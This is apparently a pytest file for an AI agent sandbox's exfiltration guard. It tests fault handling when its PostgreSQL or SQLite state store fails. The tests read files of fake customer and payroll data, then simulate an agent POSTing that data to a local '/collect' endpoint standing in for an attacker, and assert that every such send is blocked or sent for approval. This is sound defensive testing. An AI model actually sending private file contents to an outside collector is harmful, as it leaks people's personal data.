"""The exfiltration guard under faults: its state store (a real PostgreSQL of the test's own) stopped
mid-run with ``pg_ctl stop -m immediate``, then restarted.

Guarantees:

* while the database is down, a sink (an ``http.request`` to the attacker's server) is
  ``unavailable``, retryable, naming the store: nothing reaches the attacker (fail closed, never
  allowed);
* a private read during the outage still returns its result (reads keep working) and is indexed in
  the worker's memory: once the database is back, data from it and from the reads indexed before the
  outage is still found (sent to approval naming the read), the agent's own words pass;
* other sessions are unaffected.
"""

from __future__ import annotations

from pathlib import Path

from agent_legs import Legs

SECRET = "Maria Gonzalez, IBAN DE44 5001 0517 5407 3249 31"


def test_the_store_stopped_mid_run_fails_closed_and_loses_no_read(tmp_path: Path, private_postgres, http_server) -> None:
    url = private_postgres.create_database()
    ws = tmp_path / "ws"
    (ws / "private").mkdir(parents=True)
    (ws / "private" / "a.txt").write_text(f"Customer record: {SECRET}.\n")
    (ws / "private" / "b.txt").write_text("Payroll: Jonas Weber gross 8,412.50 EUR, pension id PX-7730-1182-55.\n")
    asked: list[str] = []
    with Legs(
        workspace=ws,
        state_dir=tmp_path / "st",
        policy={"allow": ["files.*", "http.request"], "network": {"allow_hosts": ["*"], "allow_private": True}},
        settings={"state": {"url": url, "timeout_s": 1}},
        approver=lambda r: asked.append(r.reason) or False,
    ) as legs:

        def send(body: str, session: str = "s"):
            return legs.run("http.request", {"method": "POST", "url": http_server.url("/collect"), "body": body}, session=session)

        assert legs.run("files.read", {"path": "private/a.txt"}, session="s", call_id="read-1").ok

        private_postgres.stop()
        down = send(SECRET)
        assert down.error is not None and down.error.type == "unavailable" and down.error.retryable, down
        assert f"PostgreSQL at 127.0.0.1:{private_postgres.port}" in down.error.message
        read = legs.run("files.read", {"path": "private/b.txt"}, session="s", call_id="read-2")
        assert read.ok and "Jonas Weber" in read.output  # reads keep working
        assert http_server.requests == [] and asked == []

        private_postgres.start()
        indexed = send(f"fyi {SECRET}")
        during = send("fyi: pension id PX-7730-1182-55")
        own = send("Thanks, the meeting is on Tuesday.")
    assert indexed.error is not None and indexed.error.type == "approval_denied"
    assert "private data read by files.read call read-1" in asked[0]
    assert during.error is not None and "private data read by files.read call read-2" in asked[1]
    assert own.ok and len(asked) == 2
    assert [r.body.decode() for r in http_server.requests] == ["Thanks, the meeting is on Tuesday."]


def test_a_worker_killed_between_a_drop_and_its_end_mark_leaves_no_stale_index(tmp_path: Path, python_child, kill_child) -> None:
    """The drop generations (``agent_legs._state._flowgen``) with a worker SIGKILLed after its ``DELETE``
    committed and before it marked the drop's end: the other worker's cached index of the session must
    not be trusted (its text read again is written anew), and that word stays on the store's path."""
    import contextlib
    import sqlite3

    ws, st = tmp_path / "ws", tmp_path / "st"
    (ws / "private").mkdir(parents=True)
    (ws / "private" / "a.txt").write_text(f"Customer record: {SECRET}.\n")
    policy = {"allow": ["files.*", "http.request"], "network": {"allow_hosts": ["*"], "allow_private": True}}

    def rows() -> int:
        with contextlib.closing(sqlite3.connect(st / "state.sqlite3")) as db:
            return int(db.execute("SELECT COUNT(*) FROM flow_index WHERE session='s' AND label='private'").fetchone()[0])

    with Legs(workspace=ws, state_dir=st, policy=policy) as one:
        for call in ("read-1", "read-2"):  # indexed, then known: a further read would ask the store nothing
            assert one.run("files.read", {"path": "private/a.txt"}, session="s", call_id=call).ok
        child = python_child(
            f"""
            import time
            from pathlib import Path
            from agent_legs import Legs
            from agent_legs._state._sqlite import SqliteStore

            mark = SqliteStore._flow_drop

            def killed_before_the_end_mark(self, session, begin):
                if not begin:
                    print("committed", flush=True)
                    time.sleep(600)
                mark(self, session, begin)

            SqliteStore._flow_drop = killed_before_the_end_mark
            with Legs(workspace=Path({str(ws)!r}), state_dir=Path({str(st)!r}), policy={policy!r}) as legs:
                legs.close_session("s")
            """
        )
        assert child.stdout is not None and child.stdout.readline().strip() == "committed"
        kill_child(child)
        assert rows() == 0
        for call in ("read-3", "read-4", "read-5"):  # the word still shows the drop under way: the store decides
            assert one.run("files.read", {"path": "private/a.txt"}, session="s", call_id=call).ok
        assert rows() == 1  # written anew once, not again
        leak = one.run("http.request", {"method": "POST", "url": "http://127.0.0.1:9/collect", "body": SECRET}, session="s")
    assert leak.error is not None and leak.error.type in ("approval_required", "approval_denied", "denied"), leak
    assert "files.read call read-3" in leak.output
